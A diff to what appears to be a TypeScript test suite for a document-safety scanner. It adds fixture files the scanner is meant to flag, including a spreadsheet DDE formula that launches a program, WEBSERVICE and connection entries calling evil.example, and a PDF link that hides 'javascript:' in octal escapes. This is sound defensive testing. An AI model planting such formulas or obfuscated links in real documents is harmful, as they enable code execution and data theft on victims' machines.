@@ -155,6 +155,35 @@ const CORPUS: readonly [name: string, made: () => Buffer, answer: string][] = [
     UNSAFE,
   ],
   [
+    'an XLSX with a formula that starts a program',
+    () => xlsx([{ name: 'xl/worksheets/sheet1.xml', content: "<x:f>cmd|'/C calc'!A0</x:f>" }]),
+    UNSAFE,
+  ],
+  [
+    'an XLSX with a formula that fetches a page',
+    () =>
+      xlsx([
+        { name: 'xl/worksheets/sheet1.xml', content: '<f>_xlfn.WEBSERVICE("https://evil.example")</f>' },
+      ]),
+    UNSAFE,
+  ],
+  [
+    'an XLSX that reads from elsewhere',
+    () =>
+      xlsx([
+        {
+          name: 'xl/connections.xml',
+          content: '<connections><webPr url="https://evil.example"/></connections>',
+        },
+      ]),
+    UNSAFE,
+  ],
+  [
+    'a DOCX with a page beside it',
+    () => docx([{ name: 'word/a.htm', content: '<html><script>alert(1)</script></html>' }]),
+    UNSAFE,
+  ],
+  [
     'a DOCX with a file in it',
     () => docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
     UNSAFE,
@@ -358,6 +387,16 @@ const CORPUS: readonly [name: string, made: () => Buffer, answer: string][] = [
     QUARANTINED,
   ],
   ['a PDF with a model that acts', () => pdfObject('<< /Type /3D /OnInstantiate 8 0 R >>'), QUARANTINED],
+  [
+    'a PDF whose link is a script',
+    () => pdfObject('<< /S /URI /URI (java\\163cript:alert\\(1\\)) >>'),
+    QUARANTINED,
+  ],
+  [
+    'a PDF whose link is a file of another machine',
+    () => pdfObject(`<< /S /URI /URI <${text('file://evil/x').toString('hex')}> >>`),
+    QUARANTINED,
+  ],
   ['a PDF of digits alone', () => text(`%PDF-1.4\n${'1'.repeat(1_900_000)}\n%%EOF\n`), DAMAGED],
   [
     'a PDF that unpacks to a hundred megabytes',
@@ -604,6 +643,12 @@ describe('hostile files', () => {
       [packedObjects('<< /Type /Annot /A << /S /URI /URI (https://mcx.example.com) >> >>'), 'pdf'],
       [pdfStream('', 'BT (JavaScript and /JS in words) Tj ET'), 'pdf'],
       [pdfObject('<< /OpenAction [3 0 R /Fit] >>'), 'pdf'],
+      [
+        pdfObject(
+          '<< /S /URI /URI (mailto:a@example.com) /B << /S /URI /URI (www.example.com/\\(a\\)) >> >>',
+        ),
+        'pdf',
+      ],
       [pdfStream('/Title (The stream \\(obj\\) of life) /ID <41> % a comment\n', 'BT ET'), 'pdf'],
       [pdfStream(`/Names [${'<41> '.repeat(2_000)}] /Filter [/FlateDecode]`, deflateSync(text('BT'))), 'pdf'],
       [jpeg, 'jpeg'],
@@ -614,6 +659,10 @@ describe('hostile files', () => {
       [docx([], '<w:fldChar/><w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" NUMPAGES "/>'), 'docx'],
       [docx([{ name: 'word/a.xml', content: '\ufeff<?xml version="1.0" encoding="utf-8"?><a/>' }]), 'docx'],
       [xlsx(), 'xlsx'],
+      [
+        xlsx([{ name: 'xl/worksheets/sheet1.xml', content: '<f>SUM(A1:A9)&amp;"a|b"</f><f>RECALL(1)</f>' }]),
+        'xlsx',
+      ],
       [text('unit,year,miles\n12,2019,"410,000"\n14,2020,380000\n'), 'csv'],
       [text('name;balance\nA;-12.50\nB;+3\n'), 'csv'],
       [text('name,phone,change\nA,+1-402-555-0177 (office),-1.50 (net)\n'), 'csv'],
